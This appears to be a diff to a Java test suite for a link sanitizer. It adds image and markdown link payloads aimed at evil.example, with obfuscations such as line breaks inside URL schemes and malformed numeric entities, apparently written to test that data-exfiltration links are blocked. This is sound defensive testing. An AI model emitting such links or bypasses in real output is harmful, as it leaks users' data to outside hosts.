@@ -59,6 +59,15 @@ class LinkAttacksTest {
         "<img src=https://evil.example/?q=\"@>",
         "<img src=\" https://evil.example/?q=a @\">",
         "<img src=\"\\\\evil.example\\?q=@\">",
+        // Line breaks in a scheme, before its colon or between its slashes.
+        "<img src=\"ht\ntps://evil.example/?q=a @\">",
+        "<img src=\"https\n:evil.example/?q=a @\">",
+        "<img src=\"/\t/evil.example/?q=a @\">",
+        // Numbers of entities without a semicolon, and with zeros.
+        "<img src=\"https&#58//evil.example/?q=a @\">",
+        "<img src=\"&#47&#x2f@.evil.example\">",
+        "<img src=\"/&#47@.evil.example\">",
+        "<img src=\"/&#00000000000000000000047;evil.example/?q=@\">",
         // What only looks like the host that may have values.
         "![a](https://named.example:)![x](https://evil.example/?q=@)",
         "![x](https://named.example&#64;evil.example/?q=@)",
@@ -102,6 +111,8 @@ class LinkAttacksTest {
         "the scheme http:\n@",
         "a &amp; @; b&#47;c @",
         "x = 1; // @",
+        "AT&#38;T, &#8220 and &#0; @",
+        "int\nhttp\n= 4; /* @ */",
         "{\"https\": \"@\"}",
         "(https://named.example/x?a=\"@\")",
         "https://named.example:8080/@",
